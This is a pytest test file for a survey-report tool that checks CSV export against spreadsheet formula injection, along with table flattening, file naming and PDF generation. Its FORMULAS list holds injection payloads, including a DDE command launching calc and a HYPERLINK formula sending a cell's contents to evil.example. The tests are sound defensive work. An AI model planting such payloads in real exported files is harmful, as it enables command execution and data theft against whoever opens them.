"""The tables behind a report: numbers as numbers, names that no spreadsheet runs, nothing more."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import nbformat
import pandas as pd
import pytest
from findings_by_hand import FINDINGS, UNTRUSTED_NAMES
from hypothesis import given
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from typer.testing import CliRunner

from cxanalysis.cli import app
from cxanalysis.errors import ReportError
from cxanalysis.findings import to_json
from cxanalysis.report import pdf, run, run_report
from cxanalysis.report.harvest import FINDING
from cxanalysis.report.tables import inert, tables_of, write_csv, write_tables

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
FORMULAS = (
    *(f"{start}1+1" for start in STARTS),
    "\t=1+1",
    "\r=1+1",
    "\n@SUM(1)",
    " =1+1",
    "a\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"go")',
    "a;=1+1",
    'a,"=1+1',
    '";=1+1',
    "x|+1",
    "'=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u00a0=1+1",
)
ESTIMATE = {"value": 0.123457, "low": -0.1, "high": 0.3}
WITHHELD = {"value": None, "low": None, "high": None}


def cells_of(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def runs(cell: str) -> bool:
    return cell.strip(" \t\r\n\x00\ufeff\u00a0\"'").startswith(STARTS) and "'" not in cell[:3]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_however_the_file_is_split(
    formula: str, delimiter: str, tmp_path: Path
) -> None:
    write_csv(tmp_path / "t.csv", [{"n": 3, "name": formula, "also": f"x {formula}"}])
    text = (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
    assert not [cell for cell in cells_of(text, delimiter) if runs(cell)]


def test_such_a_cell_would_be_found() -> None:
    assert runs("=1+1") and runs(' "=1+1') and runs("＝1") and not runs("'=1+1")


@given(st.text())
def test_no_text_is_left_that_runs(text: str) -> None:
    assert not any(runs(part) for part in inert(text).split(";"))


def test_usual_names_and_numbers_stay_as_they_are(tmp_path: Path) -> None:
    names = [
        "Österreich",
        "where is my order",
        "e-mail",
        "first-contact",
        "North - West",
        "A & B",
        "½",
        "−4",
    ]
    assert [inert(name) for name in names] == names
    rows = [{"name": "North", "n": 3, "change": -0.5, "known": True, "none": None}]
    write_csv(tmp_path / "t.csv", rows)
    assert (tmp_path / "t.csv").read_bytes() == (
        b"\xef\xbb\xbfname,n,change,known,none\r\nNorth,3,-0.5,true,\r\n"
    )
    assert pd.read_csv(tmp_path / "t.csv").columns[0] == "name"


def test_rows_of_a_finding_are_tidy_and_as_precise_as_its_json() -> None:
    finding = {
        "kind": "demo",
        "period": "all dates",
        "min_base": 30,
        "all": ESTIMATE,
        "who": {"n": 4, "few": WITHHELD},
        "curve": [1.0, 2.0],
        "places": [
            {
                "name": "a",
                "n": 50,
                "rating": ESTIMATE,
                "step": {"size": ESTIMATE, "per": "day"},
                "files": ["x", "y"],
                "curve": [1, 2],
                "bins": [{"name": "low", "share": WITHHELD}],
            }
        ],
    }
    found = tables_of(finding)
    assert list(found) == ["single figures", "places", "places bins"]
    assert found["single figures"] == [
        {"figure": "all", **ESTIMATE},
        {"figure": "who n", "value": 4, "low": None, "high": None},
        {"figure": "who few", **WITHHELD},
    ]
    assert found["places"] == [
        {
            "name": "a",
            "n": 50,
            "rating": 0.123457,
            "rating_low": -0.1,
            "rating_high": 0.3,
            "step_size": 0.123457,
            "step_size_low": -0.1,
            "step_size_high": 0.3,
            "step_per": "day",
            "files": "x; y",
        }
    ]
    assert found["places bins"] == [
        {"places_name": "a", "n": 50}
        | {"name": "low", "share": None, "share_low": None, "share_high": None}
    ]


def numbers(value: Any) -> set[float]:
    if isinstance(value, dict):
        return {number for item in value.values() for number in numbers(item)}
    if isinstance(value, list):
        return {number for item in value for number in numbers(item)}
    is_number = isinstance(value, (int, float)) and not isinstance(value, bool)
    return {value} if is_number else set()


@pytest.mark.parametrize("name", list(FINDINGS))
def test_tables_hold_no_number_that_the_finding_does_not(name: str) -> None:
    content = to_json(FINDINGS[name])
    for contents, rows in tables_of(content).items():
        placed = {cell for row in rows for key, cell in row.items() if key != "number"}
        assert {c for c in placed if isinstance(c, (int, float))} - {True, False} <= numbers(
            content
        ), contents


def shown(finding: dict[str, Any]) -> Any:
    cell = new_code_cell("x")
    data = {FINDING: finding, "text/plain": "It is so.", "text/html": "<p>It is so.</p>"}
    cell.outputs = [new_output("display_data", data=data)]
    return cell


def test_files_are_named_after_their_sections_and_never_twice(tmp_path: Path) -> None:
    places = {"kind": "pain", "places": [{"name": "=1+1", "n": 3}]}
    cells = [new_markdown_cell("## Where it hurts: ../../x?"), shown(places), shown(places)]
    cells += [new_markdown_cell("## " + "Long " * 90), shown(places)]
    cells += [new_markdown_cell("## Где болит"), shown(to_json(UNTRUSTED_NAMES))]
    written = write_tables(new_notebook(cells=cells), tmp_path)
    assert written[:2] == [
        "tables/where-it-hurts-x-places.csv",
        "tables/where-it-hurts-x-places-2.csv",
    ]
    assert len(set(written)) == len(written) == len(list((tmp_path / "tables").iterdir()))
    assert all(len(Path(path).name) < 100 for path in written)
    assert any(Path(path).name.startswith(f"{UNTRUSTED_NAMES.kind}-") for path in written)
    assert "'=1+1" in (tmp_path / written[0]).read_text(encoding="utf-8-sig")


STUDY = """
schema_version = 1
name = "Acme"
[tables.surveys]
path = "answers.csv"
[report]
every = "all"
pdf = "chromium"
[limits]
bad_rows = 0.5
"""


@pytest.fixture
def study(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A study whose notebook shows one finding without being run, and one row of which is bad."""
    rows = "response_id,responded_at,overall_satisfaction\nr1,2026-10-01T10:00:00Z,4\n"
    rows += "r2,2026-10-01T10:00:00Z,=1+1\nr3,2026-10-01T10:00:00Z,5\n"
    (tmp_path / "answers.csv").write_text(rows, encoding="utf-8")
    (tmp_path / "study.toml").write_text(STUDY, encoding="utf-8")
    takes = 'study: str = ""\nperiod: str = ""'
    parameters = new_code_cell(takes, metadata={"tags": ["parameters"]})
    notebook = new_notebook(cells=[new_markdown_cell("# Is it?"), parameters])
    nbformat.write(notebook, tmp_path / "own.ipynb")

    def unexecuted(cells: Any, values: object, output: Path, **_: object) -> Any:
        cells.cells.append(shown({"kind": "pain", "places": [{"name": "a", "n": 3}]}))
        nbformat.write(cells, output)
        return cells

    monkeypatch.setattr(run, "execute", unexecuted)
    return tmp_path / "study.toml"


def test_report_holds_its_tables_and_its_pdf_and_lists_them(
    study: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made: list[str] = []

    def write(page: Path, output: Path, maker: str) -> None:
        made.append(maker)
        assert page.is_file()
        output.write_bytes(b"%PDF")

    monkeypatch.setattr(run, "check_maker", lambda _: None)
    monkeypatch.setattr(run, "write_pdf", write)
    report = run_report(study, study.with_name("own.ipynb"), pdf="weasyprint")
    assert made == ["weasyprint"]
    assert report.pdf == report.folder / "own.pdf" and report.pdf.is_file()
    manifest = json.loads(report.manifest.read_text(encoding="utf-8"))
    assert manifest["csv"] == ["tables/is-it-places.csv"]
    assert manifest["pdf"] == "own.pdf"
    table = (report.folder / manifest["csv"][0]).read_text(encoding="utf-8-sig")
    assert table == "name,n\na,3\n"
    run_report(study, study.with_name("own.ipynb"))
    assert made == ["weasyprint", "chromium"]  # as the study file says
    rejects = (report.folder / "rejects.csv").read_text(encoding="utf-8-sig")
    assert ",'=1+1," in rejects


def test_pdf_that_cannot_be_made_is_said_before_anything_is_run(
    study: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pdf.shutil, "which", lambda _: None)
    monkeypatch.setattr(run, "execute", None)
    with pytest.raises(ReportError, match="No Chromium"):
        run_report(study, study.with_name("own.ipynb"))
    with pytest.raises(ReportError, match="'word'"):
        run_report(study, study.with_name("own.ipynb"), pdf="word")


def test_command_takes_a_maker_of_pdfs_and_says_where_the_file_is(
    study: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(run, "write_pdf", lambda page, output, maker: output.write_bytes(b"%PDF"))
    arguments = ["report", str(study), "--notebook", str(study.with_name("own.ipynb")), "--pdf"]
    unknown = CliRunner().invoke(app, [*arguments, "word"])
    assert unknown.exit_code == 1
    assert "No PDF is made with 'word'" in unknown.stderr
    monkeypatch.setattr(run, "check_maker", lambda _: None)
    made = CliRunner().invoke(app, [*arguments, "weasyprint"])
    assert made.exit_code == 0, made.stderr
    where = made.stdout.split("PDF: ")[1].strip()
    assert Path(where).name == "own.pdf" and Path(where).is_file()
